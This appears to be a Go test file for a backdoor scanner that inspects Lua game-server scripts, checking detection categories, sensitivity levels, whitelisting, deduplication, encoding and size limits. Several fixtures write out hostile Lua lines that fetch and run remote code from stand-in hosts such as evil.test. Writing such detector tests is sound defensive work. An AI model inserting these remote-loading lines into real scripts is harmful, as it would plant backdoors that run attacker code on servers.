package scanner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hazteunsitio/hz-backdoor-monitor/internal/detectors"
	"github.com/hazteunsitio/hz-backdoor-monitor/internal/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/unicode"
)

func newScanner(sens types.Sensitivity, opts Options) *FileScanner {
	return New(detectors.NewRegistry(sens, detectors.Options{}), detectors.NewWhitelist(true), opts)
}

func writeFile(t *testing.T, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "server.lua")
	require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	return p
}

func TestScan_RemoteExecutionScenario(t *testing.T) {
	s := newScanner(types.SensitivityMedium, Options{ContextLines: -1})
	p := writeFile(t, `loadstring(PerformHttpRequest("http://evil.test/shell.php"))`+"\n")

	got, err := s.Scan(p)
	require.NoError(t, err)
	require.Len(t, got, 1)
	d := got[0]
	assert.Equal(t, p, d.File)
	assert.Equal(t, 1, d.LineNumber)
	assert.Equal(t, detectors.CategoryRemoteExecution, d.Category)
	assert.Equal(t, types.RiskCritical, d.RiskLevel)
	assert.Equal(t, "loadstring(PerformHttpRequest(", d.MatchText)
	assert.Equal(t, `loadstring(PerformHttpRequest("http://evil.test/shell.php"))`, d.LineContent)
	assert.Equal(t, `>>> 1: loadstring(PerformHttpRequest("http://evil.test/shell.php"))`+"\n    2: ", d.Context)
	assert.False(t, d.Timestamp.IsZero())
}

func TestScan_CommentMentioningBackdoor(t *testing.T) {
	s := newScanner(types.SensitivityHigh, Options{})
	p := writeFile(t, "-- this mentions backdoor in a comment\n")
	got, err := s.Scan(p)
	require.NoError(t, err)
	assert.Empty(t, got)
}

func TestScan_TrustedDomain(t *testing.T) {
	s := newScanner(types.SensitivityMedium, Options{})
	p := writeFile(t, `PerformHttpRequest("https://raw.githubusercontent.com/user/repo/file.lua")`)
	got, err := s.Scan(p)
	require.NoError(t, err)
	for _, d := range got {
		assert.NotEqual(t, detectors.CategorySuspiciousHTTP, d.Category)
	}
}

func TestScan_LowSensitivity(t *testing.T) {
	content := `ExecuteCommand("stop myresource")`
	p := writeFile(t, content)

	medium, err := newScanner(types.SensitivityMedium, Options{}).Scan(p)
	require.NoError(t, err)
	require.Len(t, medium, 1)
	assert.Equal(t, detectors.CategoryAdminCommands, medium[0].Category)
	assert.Equal(t, types.RiskHigh, medium[0].RiskLevel)

	low, err := newScanner(types.SensitivityLow, Options{}).Scan(p)
	require.NoError(t, err)
	assert.Empty(t, low)
}

func TestScan_Dedup(t *testing.T) {
	content := strings.Join([]string{
		`loadstring(PerformHttpRequest("http://evil.test/a"))`,
		`print(1)`,
		`loadstring(PerformHttpRequest("http://evil.test/a"))`,
		`PerformHttpRequest("http://evil.example/gate/x.php?a/b", function() end)`,
	}, "\n")
	p := writeFile(t, content)
	got, err := newScanner(types.SensitivityMedium, Options{}).Scan(p)
	require.NoError(t, err)

	seen := map[string]bool{}
	for _, d := range got {
		k := d.Category + "|" + d.MatchText
		assert.False(t, seen[k], "duplicate %s", k)
		seen[k] = true
	}
	require.Len(t, got, 2)
	assert.Equal(t, 1, got[0].LineNumber)
	assert.Equal(t, detectors.CategorySuspiciousHTTP, got[1].Category)
	assert.Equal(t, 4, got[1].LineNumber)
}

func TestScan_MultipleCategoriesOnOneLine(t *testing.T) {
	p := writeFile(t, `loadstring(PerformHttpRequest("http://evil.example/gate/x.php?a/b"))`)
	got, err := newScanner(types.SensitivityMedium, Options{}).Scan(p)
	require.NoError(t, err)
	require.Len(t, got, 2)
	assert.Equal(t, detectors.CategoryRemoteExecution, got[0].Category)
	assert.Equal(t, detectors.CategorySuspiciousHTTP, got[1].Category)
}

func TestScan_WhitelistPrecedence(t *testing.T) {
	p := writeFile(t, "Config.loader = loadstring(PerformHttpRequest(url))\n")
	got, err := newScanner(types.SensitivityHigh, Options{}).Scan(p)
	require.NoError(t, err)
	assert.Empty(t, got)
}

func TestScanFile_Oversized(t *testing.T) {
	payload := `loadstring(PerformHttpRequest("http://evil.test/x"))` + "\n"
	var b strings.Builder
	for b.Len() < 6<<20 {
		b.WriteString("local filler = 1\n")
	}
	b.WriteString(payload)
	p := writeFile(t, b.String())

	res, err := newScanner(types.SensitivityMedium, Options{}).ScanFile(p)
	require.NoError(t, err)
	assert.True(t, res.Skipped)
	assert.Equal(t, SkipOversize, res.SkipReason)
	assert.Empty(t, res.Detections)
}

func TestScanFile_CustomSizeCap(t *testing.T) {
	p := writeFile(t, `loadstring(PerformHttpRequest("http://evil.test/x"))`)
	res, err := newScanner(types.SensitivityMedium, Options{MaxFileSize: 10}).ScanFile(p)
	require.NoError(t, err)
	assert.True(t, res.Skipped)
}

func TestScanFile_Binary(t *testing.T) {
	png := "\x89PNG\r\n\x1a\n" + `loadstring(PerformHttpRequest("http://evil.test/x"))`
	p := writeFile(t, png)
	res, err := newScanner(types.SensitivityMedium, Options{}).ScanFile(p)
	require.NoError(t, err)
	assert.True(t, res.Skipped)
	assert.Equal(t, SkipBinary, res.SkipReason)
}

func TestScanFile_Missing(t *testing.T) {
	_, err := newScanner(types.SensitivityMedium, Options{}).ScanFile(filepath.Join(t.TempDir(), "nope.lua"))
	assert.Error(t, err)
}

func TestScanFile_Hash(t *testing.T) {
	content := "local a = 1\n"
	p := writeFile(t, content)
	res, err := newScanner(types.SensitivityMedium, Options{Hash: true}).ScanFile(p)
	require.NoError(t, err)
	assert.Equal(t, FastHash([]byte(content)), res.Hash)
	assert.Len(t, res.Hash, 16)
	assert.Equal(t, int64(len(content)), res.Bytes)

	res, err = newScanner(types.SensitivityMedium, Options{}).ScanFile(p)
	require.NoError(t, err)
	assert.Empty(t, res.Hash)
}

func TestScan_InvalidUTF8(t *testing.T) {
	p := writeFile(t, "local a = '\xc3\x28\xa0'\r\nloadstring(PerformHttpRequest(u))\r\n")
	got, err := newScanner(types.SensitivityMedium, Options{ContextLines: 1}).Scan(p)
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, 2, got[0].LineNumber)
	assert.Equal(t, "loadstring(PerformHttpRequest(u))", got[0].LineContent)
	assert.Contains(t, got[0].Context, "\uFFFD")
}

func TestScan_UTF16WithBOM(t *testing.T) {
	enc := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder()
	data, err := enc.Bytes([]byte("local x = 1\nload(PerformHttpRequest(u))\n"))
	require.NoError(t, err)
	p := filepath.Join(t.TempDir(), "client.lua")
	require.NoError(t, os.WriteFile(p, data, 0o644))

	got, err := newScanner(types.SensitivityMedium, Options{}).Scan(p)
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, 2, got[0].LineNumber)
	assert.Equal(t, "load(PerformHttpRequest(", got[0].MatchText)
}

func TestDecode(t *testing.T) {
	assert.Equal(t, "abc", Decode([]byte("\xef\xbb\xbfabc")))
	assert.Equal(t, "a\uFFFDb", Decode([]byte("a\xffb")))
}

func TestFastHash(t *testing.T) {
	assert.Equal(t, "ef46db3751d8e999", FastHash(nil))
	assert.Len(t, FastHash([]byte("x")), 16)
	assert.Equal(t, FastHash([]byte("x")), FastHash([]byte("x")))
	assert.NotEqual(t, FastHash([]byte("x")), FastHash([]byte("y")))
}

func TestScanContent_PanicCostsOnlyThatLine(t *testing.T) {
	s := newScanner(types.SensitivityMedium, Options{})
	s.validate = func(category, line string, domains *detectors.DomainSet) bool {
		if strings.Contains(line, "evil.test/first") {
			panic("validator blew up")
		}
		return detectors.Validate(category, line, domains)
	}
	content := `loadstring(PerformHttpRequest("http://evil.test/first.php"))` + "\n" +
		`loadstring(PerformHttpRequest("http://evil.test/second.php"))` + "\n"

	var got []types.Detection
	require.NotPanics(t, func() { got = s.ScanContent("server.lua", []byte(content)) })
	require.Len(t, got, 1)
	assert.Equal(t, 2, got[0].LineNumber)
	assert.Equal(t, detectors.CategoryRemoteExecution, got[0].Category)
}
